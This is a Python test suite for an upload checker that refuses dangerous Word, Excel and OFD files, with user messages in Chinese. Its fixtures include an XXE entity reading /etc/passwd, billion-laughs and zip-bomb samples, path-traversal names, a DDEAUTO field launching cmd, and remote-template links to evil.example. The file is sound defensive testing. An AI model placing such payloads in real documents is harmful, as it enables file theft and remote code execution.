import gzip
import io
import random
import tracemalloc
import zipfile

import pytest

from huying.foundation.files.checking import check_file
from tests.counts import no_runaway
from tests.files.file_samples import (
    DOCUMENT,
    OLE,
    TYPES,
    XML,
    archive,
    docx_under_password_flag,
    docx_with,
    docx_with_symlink,
    refusal,
    xlsx,
)

DAMAGED = "文件已损坏或没有传完整，请用 Word、Excel 或 WPS 另存一份后上传。"
TOO_MANY_PARTS = "文件内部的部件太多，请用 Word、Excel 或 WPS 另存一份后上传。"
BOMB = "文件解压后过大，不能接收，请删减内容、另存一份后上传。"
DTD = "文件内部含有外部定义（DTD），可能有危险，请用 Word、Excel 或 WPS 另存一份后上传。"
PATHS = "文件内部的路径不正常，可能有危险，请用 Word、Excel 或 WPS 另存一份后上传。"
MACROS = "文件带有宏（%s），不能接收，请另存为不带宏的 docx 或 xlsx 后上传。"
LOCKED = "文件设有打开密码（加密），请去掉密码、另存一份后上传。"
OLD = "文件是旧格式（doc、xls），请用 Word、Excel 或 WPS 另存为 docx 或 xlsx 后上传。"
NOT_WORD = "文件不是真正的 Word 文档（docx），请用 Word 或 WPS 另存为 docx 后上传。"
NOT_EXCEL = "文件不是真正的 Excel 表格（xlsx），请用 Excel 或 WPS 另存为 xlsx 后上传。"


# --- case 19: external entities, billion laughs ---------------------------------------------

LAUGHS = XML + b'<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
EXTERNAL = XML + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


@pytest.mark.parametrize("part", [LAUGHS, EXTERNAL, LAUGHS.lower(), b"\xef\xbb\xbf" + LAUGHS])
def test_a_document_that_defines_entities_is_refused(part):
    assert refusal("a.docx", docx_with({"word/settings.xml": part})) == DTD


def test_entities_do_not_hide_in_utf_16():
    hidden = LAUGHS.decode().replace("UTF-8", "UTF-16").encode("utf-16")
    assert refusal("a.docx", docx_with({"word/settings.xml": hidden})) == DTD


def test_entities_do_not_hide_in_another_encoding():
    hidden = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'
    assert refusal("a.docx", docx_with({"word/settings.xml": hidden})) == DAMAGED
    ebcdic = LAUGHS.decode().encode("cp037")
    assert refusal("a.docx", docx_with({"word/settings.xml": ebcdic})) == DAMAGED


def test_entities_do_not_hide_across_two_pieces_nor_behind_another_name():
    filler = random.Random(1).randbytes(128 * 1024).hex().encode()
    for missing in range(0, 40, 3):
        part = b"<x>" + filler[missing:] + b"<!DOCTYPE x>"
        assert refusal("a.docx", docx_with({"word/settings.xml": part})) == DTD
    assert refusal("a.docx", docx_with({"word/settings.bin": LAUGHS})) == DTD


def test_a_document_with_entities_is_refused_at_once_and_within_50_megabytes():
    hostile = docx_with({"word/settings.xml": LAUGHS + b"&b;" * 1_000_000})
    tracemalloc.start()
    try:
        with no_runaway():
            assert refusal("a.docx", hostile) in (DTD, BOMB)
        assert tracemalloc.get_traced_memory()[1] < 50 * 1024 * 1024
    finally:
        tracemalloc.stop()


# --- cases 20 and 21: zip bombs, bad directories ----------------------------------------------


def test_a_document_that_would_swell_a_hundredfold_is_refused_before_inflating():
    bomb = docx_with({"word/media/zeros.bin": bytes(60 * 1024 * 1024)})
    assert len(bomb) < 100_000
    with no_runaway():
        assert refusal("a.docx", bomb) == BOMB


def test_a_bomb_is_not_hidden_by_a_large_picture_beside_it():
    picture = random.Random(1).randbytes(3 * 1024 * 1024)
    parts = {"word/media/a.bin": picture, "word/media/zeros.bin": bytes(50 * 1024 * 1024)}
    assert refusal("a.docx", docx_with(parts)) == BOMB


def test_a_document_of_more_than_200_megabytes_is_refused_by_what_its_directory_says():
    whole = bytearray(docx_with({}))
    for place in _directory_entries(whole):
        whole[place + 20 : place + 24] = (2_000_000).to_bytes(4, "little")  # packed
        whole[place + 24 : place + 28] = (150_000_000).to_bytes(4, "little")  # inflated
    assert refusal("a.docx", bytes(whole)) == BOMB


def test_a_directory_that_lies_about_a_length_is_noticed():
    whole = bytearray(docx_with({"word/media/zeros.xml": b"<x>" + bytes(30_000)}))
    last = _directory_entries(whole)[-1]
    whole[last + 24 : last + 28] = (100).to_bytes(4, "little")
    assert refusal("a.docx", bytes(whole)) == DAMAGED


@pytest.mark.parametrize(
    "name", ["../../x.xml", "/etc/x.xml", "word/../../x", "C:\\x", "..\\x.xml"]
)
def test_a_document_with_paths_leading_outside_is_refused(name):
    assert refusal("a.docx", docx_with({name: b"<x/>"})) == PATHS


def test_a_document_with_a_symbolic_link_is_refused():
    assert refusal("a.docx", docx_with_symlink()) == PATHS


def test_a_document_of_70_000_parts_is_refused_without_reading_its_directory():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as packed:
        for number in range(70_000):
            packed.writestr(f"word/{number}", b"")
    hostile = target.getvalue()
    tracemalloc.start()
    try:
        with no_runaway():
            assert refusal("a.docx", hostile) == TOO_MANY_PARTS
        assert tracemalloc.get_traced_memory()[1] < 5 * 1024 * 1024
    finally:
        tracemalloc.stop()


def test_two_thousand_parts_pass_and_one_more_does_not():
    parts = {f"word/{number}.xml": b"<x/>" for number in range(1998)}
    assert check_file(io.BytesIO(docx_with(parts)), name="a.docx").name == "a.docx"
    assert refusal("a.docx", docx_with({**parts, "word/one-more.xml": b"<x/>"})) == TOO_MANY_PARTS


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused():
    whole = docx_with({"word/A.xml": b"<x/>", "word/a.xml": b"<y/>"})
    assert refusal("a.docx", whole) == DAMAGED


def test_a_zip_that_is_no_office_file_is_refused_by_what_it_lacks():
    assert refusal("a.docx", archive({"a.txt": b"x"})) == NOT_WORD
    assert refusal("a.docx", archive({"word/document.xml": DOCUMENT})) == NOT_WORD
    assert refusal("a.docx", xlsx()) == NOT_WORD
    assert refusal("a.xlsx", docx_with({})) == NOT_EXCEL
    assert refusal("a.xlsx", b"1,2,3\n") == NOT_EXCEL


def test_macros_are_refused_by_part_and_by_declaration():
    assert refusal("a.docx", docx_with({"word/vbaProject.bin": b"x"})) == (
        MACROS % "word/vbaProject.bin"
    )
    assert refusal("a.docx", docx_with({"xl/macrosheets/sheet1.xml": b"<x/>"})) == (
        MACROS % "xl/macrosheets/sheet1.xml"
    )
    declared = b'><Default ContentType="x.document.macroEnabled.main+xml"/></Types>'
    types = TYPES.replace(b"/>", declared)
    whole = archive({"[Content_Types].xml": types, "word/document.xml": DOCUMENT})
    assert refusal("a.docx", whole) == MACROS % "[Content_Types].xml"


def test_a_document_under_a_password_and_an_old_doc_are_refused_with_what_to_do():
    assert refusal("a.docx", OLE) == OLD
    assert refusal("a.docx", OLE + "EncryptedPackage".encode("utf-16-le")) == LOCKED
    assert refusal("a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le")) == LOCKED
    assert refusal("a.docx", docx_under_password_flag()) == LOCKED


def test_a_document_packed_in_an_unusual_way_is_refused():
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT}
    assert refusal("a.docx", archive(parts, compress_type=zipfile.ZIP_LZMA)) == DAMAGED


# --- what would run, unfold or be fetched when somebody opens it --------------------------------


@pytest.mark.parametrize(
    ("part", "content", "named"),
    [
        (
            "word/activeX/activeX1.xml",
            b"<x/>",
            "文件里有 ActiveX 控件（word/activeX/activeX1.xml）",
        ),
        ("word/embeddings/oleObject1.bin", OLE, "文件里嵌有其他程序的对象（word/embeddings/oleObj"),
        (
            "word/embeddings/a.zip",
            archive({"a": b"x"}),
            "文件里又装着压缩包（word/embeddings/a.zip）",
        ),
        (
            "word/media/image1.png",
            b"Rar!\x1a\x07\x00",
            "文件里又装着压缩包（word/media/image1.png）",
        ),
        ("word/media/a.bin", b"MZ\x90\x00", "文件里藏有程序（word/media/a.bin）"),
        (
            "word/footer1.xml",
            b"<w:p><w:instrText> DDEAUTO c:\\cmd</w:instrText></w:p>",
            "文件里有会启动其他程序的域（DDE，word/footer1.xml）",
        ),
    ],
)
def test_a_document_with_something_that_runs_or_unfolds_is_refused_by_name(part, content, named):
    assert refusal("a.docx", docx_with({part: content})).startswith(named)


@pytest.mark.parametrize(
    ("kind", "named"),
    [
        ("attachedTemplate", "文件里有从别处加载的模板（http://evil.example/t.dotm）"),
        ("oleObject", "文件里有链接到外部的对象（http://evil.example/t.dotm）"),
        ("image", "文件里有从别处加载的图片（http://evil.example/t.dotm）"),
        ("frame", "文件里有从别处加载的框架（http://evil.example/t.dotm）"),
    ],
)
def test_what_would_be_fetched_on_opening_is_refused_and_a_link_to_click_on_is_not(kind, named):
    def relations(of: str) -> bytes:
        target = 'Target="http://evil.example/t.dotm" TargetMode="External"'
        return (
            XML + f'<Relationships><Relationship Type="x/{of}" {target}/></Relationships>'.encode()
        )

    hostile = docx_with({"word/_rels/settings.xml.rels": relations(kind)})
    assert refusal("a.docx", hostile).startswith(named)
    linked = docx_with({"word/_rels/document.xml.rels": relations("hyperlink")})
    assert check_file(io.BytesIO(linked), name="a.docx").name == "a.docx"


def test_a_drawing_that_office_has_packed_passes():
    drawing = docx_with({"word/media/image1.emz": gzip.compress(b"drawing")})
    assert check_file(io.BytesIO(drawing), name="a.docx").name == "a.docx"


def test_the_workbook_behind_a_chart_passes_but_is_looked_into():
    part = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"
    assert check_file(io.BytesIO(docx_with({part: xlsx()})), name="a.docx").name == "a.docx"
    inner = archive({"[Content_Types].xml": TYPES, "xl/vbaProject.bin": b"x"})
    assert refusal("a.docx", docx_with({part: inner})) == MACROS % "xl/vbaProject.bin"
    deeper = archive({"[Content_Types].xml": TYPES, "xl/embeddings/b.xlsx": xlsx()})
    assert refusal("a.docx", docx_with({part: deeper})) == TOO_MANY_PARTS


# --- the state's own page format -------------------------------------------------------------------


def test_an_ofd_passes_and_what_only_calls_itself_one_does_not():
    page = {"OFD.xml": XML + b"<ofd:OFD/>", "Doc_0/Document.xml": XML + b"<x/>"}
    checked = check_file(io.BytesIO(archive(page)), name="红头文件.ofd")
    assert (checked.name, checked.media_type) == ("红头文件.ofd", "application/ofd")
    assert refusal("a.ofd", docx_with({})) == "文件不是真正的 OFD 版式文件，请重新导出后上传。"
    assert refusal("a.ofd", archive({**page, "Doc_0/x.xml": LAUGHS})) == DTD


def _directory_entries(whole: bytearray) -> list[int]:
    found = []
    place = whole.find(b"PK\x01\x02")
    while place >= 0:
        found.append(place)
        place = whole.find(b"PK\x01\x02", place + 4)
    return found
